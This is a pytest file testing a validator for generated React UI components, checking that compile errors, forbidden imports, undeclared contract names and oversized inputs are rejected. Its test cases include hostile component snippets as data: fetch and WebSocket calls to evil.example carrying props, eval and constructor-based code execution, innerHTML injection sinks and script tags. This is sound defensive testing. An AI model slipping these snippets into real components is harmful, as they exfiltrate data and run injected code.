"""The verdict on a blueprint: which tier fails, with which code, and what is never done to reach it."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from ggui_core.testing import Booted

from .conftest import Call, Json

pytestmark = pytest.mark.asyncio(loop_scope="session")

HEAD = """\
import { useState } from "react";
import { Button, Card, Text } from "@ggui-ai/design";
import { useAction, useGguiContext, useStream } from "@ggui-ai/wire";
"""
SOURCE = (
    HEAD
    + """
export default function Note({ title }: { title: string }) {
  const save = useAction<{ text: string }>("save");
  const news = useStream<string>("news");
  const [draft, setDraft] = useGguiContext<string>("draft");
  const [count, setCount] = useState(0);
  return (
    <Card>
      <Text>{title} {news.latest} {draft} {count}</Text>
      <Button onPress={() => { void save({ text: draft }); setDraft(""); setCount(count + 1); }}>Save</Button>
    </Card>
  );
}
"""
)
CONTRACT: Json = {
    "propsSpec": {"properties": {"title": {"schema": {"type": "string"}, "required": True}}},
    "actionSpec": {
        "save": {
            "label": "Save",
            "schema": {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]},
        }
    },
    "streamSpec": {"news": {"schema": {"type": "string"}}},
    "contextSpec": {"draft": {"schema": {"type": "string"}}},
}
FIXTURE = {"title": "Shopping"}


def codes(items: list[Json]) -> list[str]:
    return [item["code"] for item in items]


def component(body: str, head: str = HEAD) -> str:
    return f"{head}export default function A(props: any) {{\n  {body}\n}}\n"


async def test_a_sound_blueprint_is_valid_and_what_was_not_tried_is_said(call: Call) -> None:
    report = await call("validate_blueprint", source=SOURCE, contract=CONTRACT, fixtureProps=FIXTURE)
    assert (report["valid"], report["failedAt"], report["errors"]) == (True, None, [])
    assert codes(report["warnings"]) == ["runtime:component-not-executed"]


async def test_without_example_props_none_are_held_against_the_contract(call: Call) -> None:
    report = await call("validate_blueprint", source=SOURCE, contract=CONTRACT)
    assert report["valid"]
    assert codes(report["warnings"]) == ["runtime:no-fixture-props", "runtime:component-not-executed"]


async def test_without_a_contract_the_runtime_tier_is_skipped(call: Call) -> None:
    for more in ({}, {"contract": None}, {"fixtureProps": FIXTURE}):
        report = await call(
            "validate_blueprint", source=component("return <Card>{props.title}</Card>;"), **more
        )
        assert report["valid"]
        assert codes(report["warnings"]) == ["runtime:skipped-no-contract"]
        assert report["warnings"][0]["tier"] == "runtime"


# compile


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("export default function A( {", "COMPILE_ERROR"),
        ("const a = 1;", "EMPTY_OUTPUT"),
        ("console.log(1)", "NO_EXPORT"),
        ('import fs from "fs";\nexport default () => fs;', "IMPORT_NOT_ALLOWED"),
        ('import x from "https://evil.example/x.js";\nexport default x;', "IMPORT_NOT_ALLOWED"),
        ("export default () => require('fs');", "IMPORT_NOT_ALLOWED"),
    ],
)
async def test_what_does_not_compile_fails_there_and_nothing_else_is_said(
    call: Call, source: str, code: str
) -> None:
    report = await call("validate_blueprint", source=source, contract=CONTRACT, fixtureProps=FIXTURE)
    assert (report["valid"], report["failedAt"], report["warnings"]) == (False, "compile", [])
    assert codes(report["errors"])[0] == code
    assert {item["tier"] for item in report["errors"]} == {"compile"}
    assert report["errors"][0]["fix"]


async def test_a_fault_is_placed_by_line_and_column(call: Call) -> None:
    report = await call("validate_blueprint", source="export default function A() {\n  const e = @;\n}\n")
    assert report["errors"][0]["message"].startswith("Line 2, column 14: ")


async def test_a_source_that_is_too_large_is_not_compiled(call: Call) -> None:
    report = await call("validate_blueprint", source="//" + "é" * 140_000 + "\nexport default () => null")
    assert (report["failedAt"], codes(report["errors"])) == ("compile", ["SOURCE_TOO_LARGE"])


# selfCheck


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("eval('1'); return null;", "security:code-from-text"),
        ("return (0, eval)('1');", "security:code-from-text"),
        ("\\u0065val('1'); return null;", "security:code-from-text"),
        ("return new Function('return 1')();", "security:code-from-text"),
        ("return (() => 1).constructor('return 1')();", "security:code-from-text"),
        ("return (() => 1)['constructor']('return 1')();", "security:code-from-text"),
        ("return (() => 1)['con' + 'structor']('return 1')();", "security:code-from-text"),
        ("return (() => 1).constructor.call(null, 'return 1')();", "security:code-from-text"),
        ("setTimeout('steal()', 1); return null;", "security:code-from-text"),
        ("fetch('https://evil.example/' + props.title); return null;", "security:network"),
        ("return <Button onPress={fetch}>{props.a ? fetch : null}</Button>;", "security:network"),
        ("const send = { fetch }; return send;", "security:network"),
        ("return `${fetch(props.url)}`;", "security:network"),
        ("new XMLHttpRequest(); return null;", "security:network"),
        ("new WebSocket('wss://evil.example'); return null;", "security:network"),
        ("new Image().src = props.url; return null;", "security:network"),
        ("return localStorage.getItem('a');", "security:storage"),
        ("window.parent.postMessage('x', '*'); return null;", "security:page"),
        ("return typeof window;", "security:page"),
        ("globalThis['fe' + 'tch'](props.url); return null;", "security:page"),
        ("const { fetch: f } = self; return f;", "security:page"),
        ("parent.location = props.url; return null;", "security:page"),
        ("document.title = 'x'; return null;", "security:page"),
        ("return <div ref={(e) => { e?.ownerDocument.defaultView?.close(); }} />;", "security:page"),
        ("navigator.sendBeacon('/x'); return null;", "security:page"),
        ("return <script src={props.url} />;", "security:page"),
        ("return <iframe srcDoc={props.html} />;", "security:page"),
        ("return <div dangerouslySetInnerHTML={{ __html: props.html }} />;", "security:markup"),
        ("return <div {...{ 'dangerouslySetInnerHTML': { __html: props.html } }} />;", "security:markup"),
        ("return <div ref={(e) => { if (e) e.innerHTML = props.html; }} />;", "security:markup"),
        ("return <div ref={(e) => { if (e) e['innerHTML'] = props.html; }} />;", "security:markup"),
        ("void import('react'); return null;", "imports"),
        ("return import.meta.url;", "imports"),
    ],
)
async def test_what_a_component_has_no_business_with_fails_the_self_check(
    call: Call, body: str, code: str
) -> None:
    report = await call("validate_blueprint", source=component(body))
    assert (report["valid"], report["failedAt"]) == (False, "selfCheck"), report
    assert code in codes(report["errors"])
    assert all(item["fix"] for item in report["errors"])
    assert "runtime" not in {item["tier"] for item in report["warnings"]}


@pytest.mark.parametrize(
    "body",
    [
        "return 'eval(1) fetch(2) window.parent';",
        "/* fetch(1) */ return <p>fetch eval document</p>; // window",
        "const fetch = (x: number) => x; return fetch(1);",
        "function parent() { return 1; } const top = parent(); return top;",
        "const { document, location, history: past } = props; return [document, location, past];",
        "return props.fetch + props.window.document + props['eval'];",
        "return /fetch\\(x\\)/.test(props.a) ? 1 / props.b / 2 : null;",
        "const table = { fetch: 1, eval() { return 2; }, get open() { return 3; } }; return table.fetch;",
        "return props.constructor.name;",
        "return (window as any).__GGUI_TOAST_DISABLED__;",
        "setTimeout(() => undefined, 10); return null;",
        "class Model { fetch() { return 1; } } return new Model().fetch();",
    ],
)
async def test_names_and_texts_that_only_look_like_it_pass(call: Call, body: str) -> None:
    report = await call("validate_blueprint", source=component(body))
    assert report["valid"], report


async def test_components_that_are_called_like_things_of_the_browser_pass(call: Call) -> None:
    head = 'import { Image, Link, Text } from "@ggui-ai/design";\n'
    body = (
        'return <Text open location="x"><Image src={props.src} alt="" /><Link href="#top">top</Link></Text>;'
    )
    report = await call("validate_blueprint", source=component(body, head))
    assert report["valid"], report


@pytest.mark.parametrize(
    ("source", "missing"),
    [
        ('import { Crad } from "@ggui-ai/design";\nexport default () => <Crad />;', "Did you mean 'Card'?"),
        (
            'import { useWebcam } from "react";\nexport default () => useWebcam();',
            "'react' exports no 'useWebcam'",
        ),
        ('import x from "@ggui-ai/design";\nexport default () => x;', "exports no 'default'"),
        ('import { a } from "@ggui-ai/wire/internals";\nexport default () => a;', "no module"),
    ],
)
async def test_an_import_that_views_do_not_have_fails(call: Call, source: str, missing: str) -> None:
    report = await call("validate_blueprint", source=source)
    assert (report["failedAt"], codes(report["errors"])) == ("selfCheck", ["imports"])
    said = report["errors"][0]
    assert missing in f"{said['message']} {said['fix']}"


async def test_a_module_without_a_default_export_fails(call: Call) -> None:
    report = await call("validate_blueprint", source="export function A() { return null; }")
    assert (report["failedAt"], codes(report["errors"])) == ("selfCheck", ["default-export"])


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (('useAction<{ text: string }>("save")', 'useAction("sav")'), "wire_undeclared:action:sav"),
        (('useStream<string>("news")', "useStream<string>(`knews`)"), "wire_undeclared:stream:knews"),
        (
            ('useGguiContext<string>("draft")', 'useGguiContext("dra" + "fs")'),
            "wire_undeclared:context:drafs",
        ),
    ],
)
async def test_a_name_that_the_contract_lacks_fails(call: Call, change: tuple[str, str], code: str) -> None:
    report = await call("validate_blueprint", source=SOURCE.replace(*change), contract=CONTRACT)
    assert report["failedAt"] == "selfCheck"
    assert codes(report["errors"])[0] == code
    assert "Did you mean" in report["errors"][0]["fix"]


async def test_hooks_are_followed_through_other_names_and_namespaces(call: Call) -> None:
    source = """\
import * as wire from "@ggui-ai/wire";
import { useStream as listen } from "@ggui-ai/wire";
export default () => [wire.useAction("nope"), (wire as any)["use" + "GguiContext"]("never"), listen("nowhere")];
"""
    report = await call("validate_blueprint", source=source)
    assert codes(report["errors"]) == [
        "wire_undeclared:action:nope",
        "wire_undeclared:stream:nowhere",
        "wire_undeclared:context:never",
    ]
    assert "no contract was given" in report["errors"][0]["message"]


async def test_a_declared_name_that_is_never_used_fails(call: Call) -> None:
    report = await call("validate_blueprint", source=component("return null;"), contract=CONTRACT)
    assert report["failedAt"] == "selfCheck"
    assert codes(report["errors"]) == [
        "wire_preservation:action:save",
        "wire_preservation:stream:news",
        "wire_preservation:context:draft",
    ]


@pytest.mark.parametrize("use", ["useAction(props.name)", "[useAction].map((use) => use('x'))"])
async def test_a_computed_name_is_a_warning_and_no_verdict(call: Call, use: str) -> None:
    contract = {"actionSpec": {"save": {"label": "Save"}}}
    report = await call("validate_blueprint", source=component(f"{use}; return null;"), contract=contract)
    assert report["valid"], report
    assert "selfCheck:names-not-literal" in codes(report["warnings"])


async def test_gadgets_are_those_of_the_contract(call: Call) -> None:
    contract = {"clientCapabilities": {"gadgets": {"@acme/maps": {"useMap": {}, "MapView": {}}}}}
    head = 'import { useMap, usePlaces } from "@acme/maps";\n'
    report = await call(
        "validate_blueprint", source=component("return [useMap(), usePlaces()];", head), contract=contract
    )
    assert codes(report["errors"]) == ["imports", "gadget_preservation:MapView"]
    report = await call("validate_blueprint", source=component("return useMap();", head))
    assert codes(report["errors"])[0] == "IMPORT_NOT_ALLOWED"


# runtime


async def test_a_contract_that_fails_the_gate_fails_the_runtime_tier(call: Call) -> None:
    contract = {**CONTRACT, "libraries": {}}
    report = await call("validate_blueprint", source=SOURCE, contract=contract, fixtureProps=FIXTURE)
    assert (report["valid"], report["failedAt"]) == (False, "runtime")
    assert all(code.startswith("CTR_") for code in codes(report["errors"]))
    assert codes(report["warnings"]) == []


@pytest.mark.parametrize(
    ("fixture", "field"),
    [
        ({}, "title"),
        ({"title": 1}, "title"),
        ({"title": "x", "more": 1}, "more"),
        ([], "value"),
        ("x", "value"),
    ],
)
async def test_example_props_that_break_the_contract_fail(call: Call, fixture: Any, field: str) -> None:
    report = await call("validate_blueprint", source=SOURCE, contract=CONTRACT, fixtureProps=fixture)
    assert (report["failedAt"], codes(report["errors"])) == ("runtime", ["contract_violation"])
    assert f"at {field}" in report["errors"][0]["message"]


@pytest.mark.parametrize(
    "contract", [1, "x", [], True, {"actionSpec": [1]}, {"clientCapabilities": {"gadgets": 1}}]
)
async def test_what_is_no_contract_is_refused_and_never_raises(call: Call, contract: Any) -> None:
    report = await call("validate_blueprint", source=component("return null;"), contract=contract)
    assert report["failedAt"] == "runtime"
    assert codes(report["errors"])[0].startswith("CTR_SHAPE")


async def test_warnings_of_the_gate_are_handed_on(call: Call) -> None:
    contract = {"agentCapabilities": {"tools": {"look": {"toolInfo": {"inputSchema": {"type": "object"}}}}}}
    report = await call("validate_blueprint", source=component("return null;"), contract=contract)
    assert report["valid"]
    assert "LINT_ORPHAN_AGENT_TOOL" in codes(report["warnings"])


# hostile


async def test_an_empty_or_missing_source_is_an_invalid_argument(server: Booted) -> None:
    for arguments in ({}, {"source": ""}, {"source": 1}):
        result = await server.call_tool("ggui_protocol_validate_blueprint", arguments, path="/protocol")
        assert result["_meta"]["ai.ggui/error"]["code"] == "invalid_arguments"


async def test_many_faults_are_cut_off(call: Call) -> None:
    body = ";".join(f"useAction('a{n}')" for n in range(3_000))
    contract = {"actionSpec": {f"b{n}": {"label": "x"} for n in range(3_000)}}
    report = await call("validate_blueprint", source=component(f"{body}; return null;"), contract=contract)
    assert report["failedAt"] == "selfCheck"
    assert len(report["errors"]) == 50


async def test_names_that_want_to_be_something_else_are_shown_safely(call: Call) -> None:
    name = "\u202e\u0000" + "x" * 5_000
    body = f"useAction({name!a}); return null;".replace("\\x00", "\\u0000")
    report = await call("validate_blueprint", source=component(body))
    (said,) = report["errors"]
    assert len(said["code"]) < 200
    assert not {"\u202e", "\u0000"} & set(said["message"] + said["code"])


@pytest.mark.parametrize(
    "body",
    [
        "return " + "[" * 2_000 + "]" * 2_000 + ";",
        "return " + "`${" * 2_000 + "1" + "}`" * 2_000 + ";",
        "return {" + ",".join(f"k{n}:fetch" for n in range(15_000)) + "};",
        ";".join(f"useAction(n{n})" for n in range(1_500)) + ";return 1;",
        "return [" + "1," * 120_000 + "1];",
    ],
    ids=["deep", "templates", "wide", "hooks", "tokens"],
)
async def test_others_are_served_while_a_monster_is_read(server: Booted, call: Call, body: str) -> None:
    monsters = [asyncio.create_task(call("validate_blueprint", source=component(body))) for _ in range(2)]
    served = 0
    while not all(monster.done() for monster in monsters):
        await call("get_example_blueprints", kind="display")
        served += 1
    for report in await asyncio.gather(*monsters):
        assert report["failedAt"] in (None, "compile", "selfCheck")
    assert served > 1, "nobody else was served in the meantime"
